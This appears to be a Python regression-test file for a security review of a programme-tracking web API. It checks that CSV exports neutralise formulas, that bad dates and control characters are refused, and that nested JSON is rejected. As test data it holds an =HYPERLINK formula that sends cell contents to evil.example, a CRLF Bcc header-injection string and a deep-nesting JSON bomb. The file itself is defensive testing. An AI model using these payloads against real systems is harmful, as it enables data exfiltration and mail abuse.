"""The security review of issue 14: one regression test per finding, named after it, through
HTTP on SQLite and PostgreSQL. docs/security.md lists each control with the test that proves it.

Findings tested elsewhere: 4's reminder pass (tests/reminders/test_passes.py), 6 and 8's
sessions and keys (tests/pages/test_security.py).
"""

from __future__ import annotations

import csv
import io
import re

from tests.api.builders import (
    ADVISER,
    DEPUTY,
    LEAD,
    OBSERVER,
    OUTSIDER,
    SPONSOR,
    given_deliverable,
    given_milestone,
    given_programme,
)
from tests.api.client import Api, person

CSRF_FIELD = re.compile(r'name="_csrf_token" value="([^"]+)"')


async def sign_in(api: Api, token: str) -> None:
    """Sign the test client in to the pages (a session cookie, as a browser would)."""
    form = await api.client.get("/sign-in")
    found = CSRF_FIELD.search(form.text)
    assert found is not None
    answer = await api.client.post(
        "/sign-in", data={"_csrf_token": found.group(1), "token": token, "next": "/"}
    )
    assert answer.status_code == 200 and "Sign out" in answer.text  # followed to "/"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
]


async def test_finding_2_csv_cells_that_would_run_as_a_formula_are_written_as_text(
    api: Api,
) -> None:
    key = await given_programme(api)
    for title in FORMULAS:
        await given_deliverable(api, key, title=title)
    answer = await api.get(
        f"/api/v1/programmes/{key}/closure-report", await api.as_(SPONSOR), params={"format": "csv"}
    )
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    titles = sorted(row["deliverable"] for row in rows)
    assert titles == sorted("'" + title for title in FORMULAS)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


async def test_finding_3_dates_outside_the_documented_range_are_refused_not_stored(
    api: Api,
) -> None:
    key = await given_programme(api)
    lead = await api.as_(LEAD)
    milestones = f"/api/v1/programmes/{key}/milestones"
    for baseline in ("9999-12", "0001-01-01", "2200-01", "1899-12-31"):
        answer = await api.post(milestones, lead, {"title": "Far", "baseline": baseline})
        assert answer.status_code in (400, 422), (baseline, answer.text)
    early = {"title": "Old", "baseline": "2021-03", "occurred_at": "0001-01-01T00:00:00+00:00"}
    answer = await api.post(milestones, lead, early)
    assert answer.status_code == 400 and "1900-01-01" in answer.text
    # The edges of the range are taken; the programme's pages and reports still answer.
    await given_milestone(api, key, baseline="2199-12", title="Last month taken")
    report = f"/api/v1/programmes/{key}/closure-report"
    sponsor = await api.as_(SPONSOR)
    for as_of in ("2199-12-31", "1900-01-01"):
        assert (await api.get(report, sponsor, params={"as_of": as_of})).status_code == 200
    for as_of in ("9999-12-31T23:59:59-14:00", "2200-01-01", "0001-01-01T00:00:00+00:00"):
        answer = await api.get(report, sponsor, params={"as_of": as_of})
        assert answer.status_code == 400 and answer.json()["code"] == "invalid_parameter", as_of
    for path in (report, f"/api/v1/programmes/{key}/milestones.ics"):
        assert (await api.get(path, sponsor)).status_code == 200, path
    await sign_in(api, await api.token(SPONSOR))
    for page in (f"/programmes/{key}", f"/programmes/{key}/closure-report.pdf"):
        assert (await api.client.get(page)).status_code == 200, page


async def test_finding_4_control_characters_in_names_and_titles_are_refused(api: Api) -> None:
    key = await given_programme(api)
    admin, lead = await api.admin(), await api.as_(LEAD)
    bad = "Eve\r\nBcc: mallory@evil.example"
    roster = await api.put(
        f"/api/v1/programmes/{key}/roster/{person('Eve Lowe')}",
        admin,
        {"name": bad, "title": "Sponsor", "raci": "I"},
    )
    assert roster.status_code == 400, roster.text
    for path, body in {
        "deliverables": {"title": bad, "due": "2021-03-01", "approvers": [SPONSOR]},
        "milestones": {"title": bad, "baseline": "2021-03"},
        "outcomes": {"number": 9, "title": "Tab\tin title"},
    }.items():
        answer = await api.post(f"/api/v1/programmes/{key}/{path}", lead, body)
        assert answer.status_code == 400, (path, answer.text)
    token = await api.post("/api/v1/tokens", admin, {"email": person("Eve Lowe"), "name": bad})
    assert token.status_code == 400
    # Nothing was written: the report lists only what the givens made.
    report = await api.get(f"/api/v1/programmes/{key}/closure-report", lead)
    assert report.json()["deliverables"] == []


async def test_finding_12_deeply_nested_json_is_a_400_problem(api: Api) -> None:
    key = await given_programme(api)
    nested = b"[" * 100_000 + b"]" * 100_000
    answer = await api.client.post(
        f"/api/v1/programmes/{key}/outcomes",
        content=nested,
        headers={**await api.as_(LEAD), "Content-Type": "application/json"},
    )
    assert answer.status_code in (400, 413), answer.text
    assert answer.headers["content-type"] == "application/problem+json"


async def test_finding_12_an_unknown_programme_is_404_and_a_known_one_403_to_outsiders(
    api: Api,
) -> None:
    key = await given_programme(api)
    outsider = await api.as_(OUTSIDER)
    known = await api.get(f"/api/v1/programmes/{key}/closure-report", outsider)
    unknown = await api.get("/api/v1/programmes/no-such-programme/closure-report", outsider)
    assert (known.status_code, unknown.status_code) == (403, 404)


async def test_finding_13_only_those_who_sign_appoint_a_deputy_and_only_a_registered_one(
    api: Api,
) -> None:
    key = await given_programme(api)
    path = f"/api/v1/programmes/{key}/delegations"
    stranger = person("Stan Ger")
    for_self = {"deputy": DEPUTY, "starts": "2021-01-01", "ends": "2021-06-30"}
    await api.token(DEPUTY)
    # An I signs nothing, so has nothing to delegate: no read access handed to anyone.
    informed = await api.post(path, await api.as_(OBSERVER), {**for_self, "for": OBSERVER})
    assert informed.status_code == 403
    # A C may appoint their own deputy, but only someone the tracker already knows.
    adviser = await api.as_(ADVISER)
    outsider_deputy = {**for_self, "for": ADVISER, "deputy": stranger}
    refused = await api.post(path, adviser, outsider_deputy)
    assert refused.status_code == 422 and refused.json()["code"] == "deputy_not_registered"
    assert (await api.post(path, adviser, {**for_self, "for": ADVISER})).status_code == 201
    stranger_reads = await api.get(f"/api/v1/programmes/{key}", await api.as_(stranger))
    assert stranger_reads.status_code == 403
